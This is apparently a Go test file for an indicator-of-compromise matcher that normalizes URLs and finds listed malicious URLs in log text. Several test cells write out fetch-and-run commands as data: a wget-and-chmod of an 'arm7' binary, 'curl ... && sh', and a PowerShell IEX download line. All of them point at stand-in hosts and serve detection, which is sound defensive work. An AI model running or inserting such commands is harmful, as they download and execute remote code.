package ioc

import (
	"errors"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"net/url"
	"slices"
	"strings"
	"testing"
)

func TestAppendURL(t *testing.T) {
	for _, c := range []struct{ cell, want string }{
		{"HTTP://User:pw@Evil.EXAMPLE:80/A/B", "http://evil.example/A/B"},
		{"https://evil.example:80/", "https://evil.example:80/"},
		{"https://evil.example", "https://evil.example/"},
		{"http://evil.example./a", "http://evil.example/a"},
		{"http://b\u00fccher.example/\u00fc", "http://xn--bcher-kva.example/%C3%BC"},
		{"http://evil.example/%c3%bc%7e%2f%41", "http://evil.example/%C3%BC~%2FA"},
		{"http://evil.example/a/./b/../c/%2e%2E/d/..", "http://evil.example/a/"},
		{"http://evil.example/../../x", "http://evil.example/x"},
		{"http://evil.example/a/..", "http://evil.example/"},
		{"http://evil.example/a/.", "http://evil.example/a/"},
		{"http://evil.example//a//", "http://evil.example//a//"},
		{`http://evil.example\a\..\b`, "http://evil.example/b"},
		{`x://evil.example/a\b`, "x://evil.example/a%5Cb"},
		{"http://evil.example/a b\"<>`{}|^", "http://evil.example/a%20b%22%3C%3E%60%7B%7D%7C%5E"},
		{"http://evil.example/100%/%zz%4", "http://evil.example/100%25/%25zz%254"},
		{"http://evil.example/a\tb\n", "http://evil.example/ab"},
		{"http://evil.example/x?#y?", "http://evil.example/x"},
		{"http://evil.example?a=/../%7e?b#c", "http://evil.example/?a=/../~?b"},
		{"http://2957085447/x", "http://176.65.139.7/x"},
		{"http://[2001:DB8:0::1]:443/x", "http://[2001:db8::1]:443/x"},
		{"evil.example:443/x", "evil.example:443/x"},
		{"//evil.example/x", "evil.example/x"},
		{`\\evil.example\share\x`, "evil.example/share/x"},
		{"http%3A%2F%2Fevil.example%2Fx%3Fy", "http://evil.example/x?y"},
		{"http://", ""},
		{"", ""},
	} {
		got, ok := AppendURL([]byte("kept "), []byte(c.cell))
		if text, _ := strings.CutPrefix(string(got), "kept "); text != c.want || ok != (c.want != "") {
			t.Errorf("%q: got %q %v, want %q", c.cell, text, ok, c.want)
		}
	}
}

// Cells in which an indicator is, or is not, found.
func TestMatchURL(t *testing.T) {
	for _, c := range []struct {
		indicator string
		yes, no   []string
	}{
		{"http://evil.example/a/b", []string{
			"http://evil.example/a/b", "https://EVIL.example/a/b", "http://evil.example:80/a/b", "https://evil.example:443/a/b/", "http://evil.example/a/b/c", "http://evil.example/a/b?x=1#y",
			"evil.example/a/b", "evil.example:80/a/b", "evil.example:443/a/b", "//evil.example/a/b", "http://u:p@evil.example/a/x/../b", "http://evil.example/%61/b", "http://evil.example./a/b",
			`http://evil.example\a\b`, "http%3A%2F%2Fevil.example%2Fa%2Fb",
		}, []string{
			"http://evil.example/a/bc", "http://evil.example/A/b", "http://evil.example/a", "http://evil.example/a%2Fb", "http://evil.example:8080/a/b", "evil.example:8080/a/b", "ftp://evil.example/a/b",
			"http://x.evil.example/a/b", "http://example/a/b", "http://other.example/?u=http://evil.example/a/b", "/a/b", "evil.example", "http://evil.example/", "http://evil.example@other.example/a/b",
		}},
		{"http://evil.example:8080/a", []string{"http://evil.example:8080/a", "evil.example/a", "https://evil.example:8080/a/x"}, []string{"http://evil.example/a", "https://evil.example/a", "evil.example:80/a"}},
		{"http://evil.example/a/", []string{"http://evil.example/a/", "http://evil.example/a/b/c", "http://evil.example/a/?x"}, []string{"http://evil.example/a", "http://evil.example/ab"}},
		{"http://evil.example/gate.php?id=1&k=%2f", []string{"http://evil.example/gate.php?id=1&k=%2F", "https://evil.example/gate.php?id=1&k=%2F#x", "http://evil.example/gate.php?id=1&k=%2F&z"},
			[]string{"http://evil.example/gate.php", "http://evil.example/gate.php?id=1", "http://evil.example/gate.php?id=1&k=/", "http://evil.example/gate.php/?id=1&k=%2F", "http://evil.example/gate.php?id=1&k=%2F2", "http://evil.example/gate.php?k=%2F&id=1"}},
		{"http://evil.example/a.php?page=", []string{"http://evil.example/a.php?page=", "evil.example/a.php?page=7&x=1"}, []string{"http://evil.example/a.php?pages=", "http://evil.example/a.php?x&page=7", "http://evil.example/a.php?page"}},
		{"http://evil.example/a?&=&b", []string{"http://evil.example/a?&=&b", "http://evil.example/a?&=&b&"}, []string{"http://evil.example/a?&=&b=", "http://evil.example/a?&="}},
		{"http://evil.example/?id=1", []string{"http://evil.example/?id=1", "http://evil.example?id=1", "evil.example?id=1"}, []string{"http://evil.example/", "http://evil.example/x?id=1"}},
		{"http://203.0.113.7/bins/arm7", []string{"http://203.0.113.7/bins/arm7", "203.0.113.7/bins/arm7", "http://3405803783/bins/arm7", "http://[::ffff:203.0.113.7]/bins/arm7"}, []string{"http://203.0.113.7/bins/arm", "203.0.113.7"}},
		{"http://[2001:db8::1]:8080/x", []string{"http://[2001:DB8:0::1]:8080/x"}, []string{"http://[2001:db8::1]/x", "http://[2001:db8::2]:8080/x"}},
		{"evil.example/a", []string{"http://evil.example/a", "http://evil.example:8080/a/b", "ldap://evil.example:1389/a", "evil.example/a"}, []string{"http://evil.example/b"}},
		{"ldap://evil.example/a", []string{"ldap://evil.example/a", "ldap://evil.example:1389/a"}, []string{"ldap://evil.example/A"}},
		{"http://server01/x.exe", []string{"http://server01/x.exe", "SERVER01/x.exe", `\\server01\x.exe`}, []string{"http://server02/x.exe"}},
		{"http://b\u00fccher.example/\u00fc", []string{"http://xn--bcher-kva.example/%c3%bc", "http://B\u00dcCHER.example/\u00fc"}, nil},
	} {
		s := NewSet(parseAll(t, c.indicator))
		value := s.list.At(0).Value
		for want, cells := range map[bool][]string{true: c.yes, false: c.no} {
			for _, cell := range cells {
				for _, k := range []Kind{KindURL, KindHost, KindDomain, KindIP, KindEmail, KindList, KindHash} {
					got := found(s, k, cell)
					if hit := got != ""; hit != (want && k == KindURL) || hit && !strings.HasPrefix(got, value+"@"+cell) {
						t.Errorf("%s, %v %s: got %q", c.indicator, k, cell, got)
					}
				}
				data := []byte("sixteen bytes at least," + cell + ",and sixteen bytes behind")
				if left := Screen(s, KindURL, data, []span{{23, uint32(len(cell))}}, nil); want && len(left) == 0 {
					t.Errorf("%s, %s: turned away", c.indicator, cell)
				}
			}
		}
	}
}

func TestMatchURLInText(t *testing.T) {
	s := NewSet(parseAll(t, "http://evil.example/a", "http://203.0.113.7/bins/arm7", "https://bad.example/x(1)", "http://evil.example/q?u=1", "sub.example", "http://www.sub.example/b", "203.0.113.8", "http://203.0.113.8:81/c"))
	for _, c := range []struct {
		name string
		kind Kind
		cell string
		want string
	}{
		{"in a sentence", KindText, "GET http://evil.example/a/b, then (http://evil.example/a).", "http://evil.example/a@http://evil.example/a; http://evil.example/a@http://evil.example/a/b"},
		{"no scheme", KindText, "wget -q 203.0.113.7/bins/arm7;chmod 777 arm7", "http://203.0.113.7/bins/arm7@203.0.113.7/bins/arm7"},
		{"joined commands", KindText, "curl evil.example/a&&sh a", "http://evil.example/a@evil.example/a"},
		{"quoted", KindText, `curl -o x "http://evil.example/a"`, "http://evil.example/a@http://evil.example/a"},
		{"single quotes", KindText, `IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')`, "http://evil.example/a@http://evil.example/a"},
		{"brackets of its own", KindText, "at https://bad.example/x(1)", "https://bad.example/x(1)@https://bad.example/x(1)"},
		{"behind a key", KindText, "url=evil.example/a", "http://evil.example/a@evil.example/a"},
		{"two joined by a comma", KindText, "http://evil.example/a,http://203.0.113.7/bins/arm7", "http://203.0.113.7/bins/arm7@http://203.0.113.7/bins/arm7; http://evil.example/a@http://evil.example/a"},
		{"inside another", KindText, "http://good.example/?u=http://evil.example/a", "http://evil.example/a@http://evil.example/a"},
		{"behind a long user name", KindText, "at http://" + strings.Repeat("%61", 400) + "@evil.example/a/b c", "http://evil.example/a@http://" + strings.Repeat("%61", 400) + "@evil.example/a/b"},
		{"a host of more than a kilobyte", KindText, "at http://" + strings.Repeat("%61", 400) + "/a", ""},
		{"query", KindText, "http://evil.example/q?u=1 http://evil.example/q?u=2", "http://evil.example/q?u=1@http://evil.example/q?u=1"},
		{"the host too: one element", KindText, "to http://www.sub.example/b/c and sub.example", "http://www.sub.example/b@http://www.sub.example/b/c; sub.example@http://www.sub.example/b/c sub; sub.example@sub.example"},
		{"two and their hosts", KindText, "to http://www.sub.example/b/c and http://www.sub.example/b and http://203.0.113.8:81/c", "203.0.113.8@http://203.0.113.8:81/c port 81; http://203.0.113.8:81/c@http://203.0.113.8:81/c port 81; http://www.sub.example/b@http://www.sub.example/b; http://www.sub.example/b@http://www.sub.example/b/c; sub.example@http://www.sub.example/b/c sub"},
		{"address and port too", KindText, "to http://203.0.113.8:81/c now", "203.0.113.8@http://203.0.113.8:81/c port 81; http://203.0.113.8:81/c@http://203.0.113.8:81/c port 81"},
		{"no URL: host alone", KindText, "evil.example a", ""},
		{"no URL: a path", KindText, "/usr/evil.example/a C:/evil.example", ""},
		{"more of the name", KindText, "http://not-evil.example/a xevil.example/a evil.example.net/a", ""},
		{"more of the path", KindText, "http://evil.example/ab", ""},
		{"once for many", KindText, strings.Repeat("http://evil.example/a ", 100), "http://evil.example/a@http://evil.example/a"},
		{"kv", KindKV, "src=10.0.0.1;request=http://evil.example/a;x=evil.example/a", "http://evil.example/a@evil.example/a; http://evil.example/a@http://evil.example/a"},
		{"url or text: url", KindURLOrText, "http://evil.example/a", "http://evil.example/a@http://evil.example/a"},
		{"url or text: text", KindURLOrText, "see evil.example/a", "http://evil.example/a@evil.example/a"},
		{"slashes", KindText, strings.Repeat("/", 50) + " " + strings.Repeat("://", 50) + " evil.example/a", "http://evil.example/a@evil.example/a"},
	} {
		t.Run(c.name, func(t *testing.T) {
			if got := found(s, c.kind, c.cell); got != c.want {
				t.Errorf("got  %s\nwant %s", got, c.want)
			}
			if c.kind == KindText && s.list != nil {
				ordered(t, s.Match(c.kind, []byte(c.cell), nil))
			}
		})
	}
	got := s.MatchJSON([]Member{{"uri", KindURL}}, true, []byte(`{"uri":"evil.example\/a\/b","x":"curl http://evil.example/a"}`), nil)
	if len(got) != 2 || got[0].Key != "uri" || got[0].Value != "evil.example/a/b" || got[1].Value != "http://evil.example/a" {
		t.Errorf("JSON: %+v", got)
	}
}

// ordered checks that the candidates of an element stand together.
func ordered(t *testing.T, list []Candidate) {
	t.Helper()
	seen := map[[2]uint32]bool{}
	for i, c := range list {
		at := [2]uint32{c.Off, c.Len}
		if i > 0 && at != [2]uint32{list[i-1].Off, list[i-1].Len} && seen[at] {
			t.Errorf("element %v is split", at)
		}
		seen[at] = true
	}
}

// slowURL brings a URL to normal form with net/url, for what that reads too.
func slowURL(t *testing.T, text string) string {
	t.Helper()
	u, err := url.Parse(text)
	if err != nil {
		t.Fatal(err)
	}
	plain := func(s string, query bool) string {
		out := ""
		for i := 0; i < len(s); i++ {
			switch b := s[i]; {
			case b == '%' && i+2 < len(s):
				c, err := url.PathUnescape(strings.ToUpper(s[i : i+3]))
				if err == nil && strings.Trim(c, "-._~") == "" || len(c) == 1 && isAlnum(c[0]) {
					out += c
				} else {
					out += strings.ToUpper(s[i : i+3])
				}
				i += 2
			case b > 0x7e || b <= ' ' || strings.IndexByte("\"<>`{}|^\\", b) >= 0:
				out += fmt.Sprintf("%%%02X", b)
			default:
				out += string(b)
			}
		}
		return out
	}
	raw, _, _ := strings.Cut(text[strings.Index(text, "://")+3:], "#")
	raw, query, _ := strings.Cut(raw, "?")
	_, path, _ := strings.Cut(raw, "/")
	var stack []string
	parts := strings.Split(path, "/")
	for i, p := range parts {
		p = plain(p, false)
		switch {
		case p == "..":
			stack = stack[:max(0, len(stack)-1)]
		case p != ".":
			stack = append(stack, p)
			continue
		}
		if i == len(parts)-1 {
			stack = append(stack, "")
		}
	}
	host := strings.ToLower(u.Hostname())
	if a, err := netip.ParseAddr(host); err == nil && a.Is6() {
		host = "[" + a.String() + "]"
	}
	if port := u.Port(); port != "" && (u.Scheme != "http" || port != "80") && (u.Scheme != "https" || port != "443") {
		host += ":" + port
	}
	out := u.Scheme + "://" + host + "/" + strings.Join(stack, "/")
	if query != "" {
		out += "?" + plain(query, true)
	}
	return out
}

func randomURL(r *rand.Rand) string {
	pick := func(of ...string) string { return of[r.IntN(len(of))] }
	s := pick("http", "https", "HTTPS", "ftp") + "://" + pick("", "", "", "u:p@") + pick("evil.example", "EVIL.example", "x.evil.example", "203.0.113.7", "[2001:DB8::1]", "server") +
		pick("", "", "", ":80", ":443", ":8080")
	for range r.IntN(6) {
		s += pick("/", "/a", "/b", "/A", "/%61", "/%2F", "/%2f", "/..", "/.", "/%2e%2E", "/%2e", "/ab", "/\u00fc", "/%C3%BC", "/~!$&'()*+,;=:@", "/a%20b", "/{x}")
	}
	return s + pick("", "", "", "?", "?x=1", "?x=%31", "?x=/../y", "?a?b", "?x=", "?x=1&y=2", "?x=1&", "?&&x==1") + pick("", "", "#f", "#/?")
}

func TestURLAgainstNetURL(t *testing.T) {
	r := rand.New(rand.NewPCG(7, 8))
	for range 10_000 {
		text := randomURL(r)
		want := slowURL(t, text)
		got, ok := AppendURL(nil, []byte(text))
		if !ok || string(got) != want {
			t.Fatalf("%s: got %s, want %s", text, got, want)
		}
	}
}

// slowMatch reports whether the URL in a cell is that of an indicator or below it,
// both in normal form.
func slowMatch(indicator, cell string) bool {
	take := func(s string) (host, path, query, port string) {
		scheme, rest, ok := strings.Cut(s, "://")
		if !ok || strings.Contains(scheme, "/") {
			scheme, rest = "", s
		}
		slash := strings.IndexByte(rest, '/')
		host, path = rest[:slash], rest[slash:]
		if i := strings.LastIndexByte(host, ':'); i >= 0 && !strings.HasSuffix(host, "]") {
			host, port = host[:i], host[i+1:]
		}
		if port == "" {
			port = map[string]string{"http": "80", "https": "443", "ws": "80", "wss": "443", "ftp": "21"}[scheme]
		}
		if port == "443" {
			port = "80"
		}
		path, query, _ = strings.Cut(path, "?")
		return host, path, query, port
	}
	ih, ip, iq, iport := take(indicator)
	ch, cp, cq, cport := take(cell)
	switch {
	case ih != ch, iport != cport && iport != "" && cport != "":
		return false
	case iq != "":
		end := iq[len(iq)-1]
		return ip == cp && strings.HasPrefix(cq, iq) && (cq == iq || cq[len(iq)] == '&' || end == '=' || end == '&')
	}
	return cp == ip || strings.HasPrefix(cp, ip) && (strings.HasSuffix(ip, "/") || cp[len(ip)] == '/')
}

func checkURLs(t *testing.T, s *Set, cell string) (hits int) {
	t.Helper()
	var want, got []string
	if normal, ok := AppendURL(nil, []byte(cell)); ok {
		for i := range s.All() {
			if i.Type == URL && slowMatch(i.Value, string(normal)) {
				want = append(want, i.Value)
			}
		}
	}
	for _, c := range s.Match(KindURL, []byte(cell), nil) {
		for _, i := range s.Indicators(c.Entry) {
			if i.Type == URL {
				got = append(got, i.Value)
			}
		}
	}
	slices.Sort(want)
	slices.Sort(got)
	if !slices.Equal(got, want) {
		t.Fatalf("%q: got %q, want %q", cell, got, want)
	}
	if len(want) > 0 && len(Screen(s, KindURL, []byte(cell), []span{{0, uint32(len(cell))}}, nil)) == 0 {
		t.Fatalf("%q is turned away", cell)
	}
	return len(want)
}

func TestURLsAgainstWalk(t *testing.T) {
	r := rand.New(rand.NewPCG(9, 10))
	var l List
	for l.Len() < 300 {
		text := randomURL(r)
		if r.IntN(3) == 0 {
			_, text, _ = strings.Cut(text, "://")
		}
		if i, err := Parse(text); err == nil && i.Type == URL {
			l.Add(&i)
		}
	}
	s, hits := l.Set(), 0
	for range 2000 {
		cell := randomURL(r)
		if r.IntN(4) == 0 {
			_, cell, _ = strings.Cut(cell, "://")
		}
		hits += checkURLs(t, s, cell)
	}
	if hits < 1200 {
		t.Errorf("only %d matches", hits)
	}
}

// A set that several builders fill finds every URL again, and no other.
func TestManyURLs(t *testing.T) {
	var l List
	for i := range 9000 {
		ind, err := Parse(fmt.Sprintf("http://h%d.example:%d/p/%d", i/3, 80+i%2, i))
		if err != nil || !l.Add(&ind) {
			t.Fatal(i, err)
		}
	}
	s := l.Set()
	for i := range 9000 {
		for cell, want := range map[string]int{
			fmt.Sprintf("https://H%d.example:%d/p/%d/x", i/3, 80+i%2, i): 1,
			fmt.Sprintf("h%d.example/p/%d?q", i/3, i):                    1,
			fmt.Sprintf("http://h%d.example:82/p/%d", i/3, i):            0,
			fmt.Sprintf("http://h%d.example:%d/p/%d0", i/3, 80+i%2, i):   0,
		} {
			if got := s.Match(KindURL, []byte(cell), nil); len(got) != want || want == 1 && s.list.At(int(got[0].Entry)).Value != s.list.At(i).Value {
				t.Fatalf("%s: %+v, want %d", cell, got, want)
			}
		}
	}
}

// FuzzURL: the normal form is one; what is found in a cell is what a walk over
// all indicators finds.
func FuzzURL(f *testing.F) {
	for _, row := range vectors(f, "url_hosts.tsv", 13) {
		f.Add("http://tvt.miraibotnet.su/a tvt.miraibotnet.su/bins http://176.65.139.7:8080/a", row[0])
	}
	f.Add("http://evil.example/a/b https://evil.example:8080/a evil.example/a?x", "http://evil.example/a/%2e%2e/a/b/c?x#y")
	f.Add("http://server/a http://server/a/", `\\server\a\`)
	f.Add("http://evil.example/%25", "evil.example/%")
	f.Add("http://evil.example/?x", "http%3A%2F%2Fevil.example?x")
	f.Add("http://evil.example/a", ".exa://evil.example/a")
	f.Add("http://evil.example/a", "http://0xb041\u00adb07/")
	f.Add("http://evil.example/a", "evil.example/a/http://203.0.113.7@80/a.cmd")
	f.Add("http://evil.example/a'#b", "http://evil.example/a?x' #y")
	f.Add("http://evil.example/a", "see http://"+strings.Repeat("%61", 500)+"<")
	f.Add("http://evil.example/a", "see http://"+strings.Repeat("%61", 500)+"/a")
	f.Fuzz(func(t *testing.T, values, cell string) {
		if normal, ok := AppendURL(nil, []byte(cell)); ok && isASCII(normal) {
			u, ok := cutURL(normal)
			if ok && isURLHost(string(u.host)) {
				again, ok := AppendURL(nil, normal)
				if !ok || string(again) != string(normal) {
					t.Fatalf("%q: %q, then %q %v", cell, normal, again, ok)
				}
			}
		}
		if cell != "" {
			i, err := parseURL(cell, true)
			if is := err == nil && i.Value == cell; isNormalURL([]byte(cell)) != is {
				t.Fatalf("%q is normal: %v; read as %q, %v", cell, !is, i.Value, err)
			}
		}
		var list []Indicator
		for _, v := range strings.Fields(values) {
			i, err := Parse(v)
			if err != nil || i.Type != URL {
				continue
			}
			again, err := Parse(i.Value)
			if err != nil || again.Type != URL || again.Value != i.Value || !isNormalURL([]byte(i.Value)) {
				t.Fatalf("%q: %q, then %q: %v", v, i.Value, again.Value, err)
			}
			list = append(list, i)
		}
		s := NewSet(list)
		checkURLs(t, s, cell)
		ordered(t, s.Match(KindText, []byte(cell), nil))
	})
}

// A hostile text costs no more than its length and what is held.
func TestURLTextBounded(t *testing.T) {
	s := NewSet(parseAll(t, "http://evil.example/a", "evil.example"))
	for _, text := range []string{
		strings.Repeat("http://evil.example/", 2000), strings.Repeat("evil.example/a,", 2000), strings.Repeat("://", 100_000), strings.Repeat("/", 300_000),
		strings.Repeat("a.b/", 80_000), strings.Repeat("%", 300_000) + "/", "http://evil.example/" + strings.Repeat("../", 100_000), strings.Repeat("http:", 60_000) + "//evil.example/a",
	} {
		for _, k := range []Kind{KindText, KindURL, KindKV, KindURLOrText} {
			s.Match(k, []byte(text), nil)
		}
	}
}

func TestParseOddURLs(t *testing.T) {
	for _, c := range []struct{ text, want string }{
		{`\\203.0.113[.]7@80\share\a.cmd`, "http://203.0.113.7/share/a.cmd"},
		{`\\evil[.]example@8080\DavWWWRoot\a.cmd`, "http://evil.example:8080/a.cmd"},
		{`\\evil.example@SSL\share\a.cmd`, "https://evil.example/share/a.cmd"},
		{`\\evil.example@ssl@8443\davwwwroot\a\b.cmd`, "https://evil.example:8443/a/b.cmd"},
		{`file:\\evil.example@80\share\a.cmd`, "http://evil.example/share/a.cmd"},
		{"file://203.0.113[.]7@8080/DavWWWRoot/a.cmd", "http://203.0.113.7:8080/a.cmd"},
		{"//203.0.113[.]7@80/share/a.cmd", "http://203.0.113.7/share/a.cmd"},
		{"file://evil.example/share/a.cmd", "file://evil.example/share/a.cmd"},
		{"s3.amazonaws.com/bucket/a.js", "s3.amazonaws.com/bucket/a.js"},
		{"co.uk/bucket/a.js", "not an indicator"},
		{`\\evil.example@80\`, ErrURLHost.Error()},
		{`\\evil.example@99999\a`, "not an indicator"},
		{`\\evil.example@share\a`, "not an indicator"},
		{`search:query=a&crumb=location:\\203.0.113.7@80\a`, "not an indicator"},
		{"hxxps://203.0.113[.]7@80/a.cmd", "not an indicator"},
		{"evil.example/a/http://203.0.113[.]7@80/a.cmd", "evil.example/a/http://203.0.113.7@80/a.cmd"},
		{"https://user@2957085447/a.cmd", "https://176.65.139.7/a.cmd"},
		{"bot@evil.example", ErrEmail.Error()},
		{`EXAMPLE\bot@evil.example`, ErrEmail.Error()},
		{"file://bot@evil.example/share/a.cmd", "file://evil.example/share/a.cmd"},
	} {
		i, err := Parse(c.text)
		got := i.Value
		switch {
		case errors.Is(err, ErrNotIndicator):
			got = "not an indicator"
		case err != nil:
			got = err.Error()
		}
		if got != c.want {
			t.Errorf("%s: got %s, want %s", c.text, got, c.want)
		}
	}
}

func TestParseURLOfWebDAV(t *testing.T) {
	if i, err := ParseURL("file://evil.example@SSL/DavWWWRoot/a.cmd"); err != nil || i.Value != "https://evil.example/a.cmd" {
		t.Errorf("got %s, %v", i.Value, err)
	}
}

func TestHostBeforePort(t *testing.T) {
	for _, cell := range []string{`\\203.0.113.7@80\share\a.cmd`, "file://203.0.113.7@80/share/a.cmd", "http://80@203.0.113.7/share/a.cmd",
		"file://203.0.113.7@ssl/share/a.cmd", "file://bot@203.0.113.7/share/a.cmd", "file://443:80@203.0.113.7/a"} {
		if h, ok := AppendHost(nil, []byte(cell)); !ok || h.Addr != netip.MustParseAddr("203.0.113.7") {
			t.Errorf("%s: got %v %v", cell, h.Addr, ok)
		}
	}
}
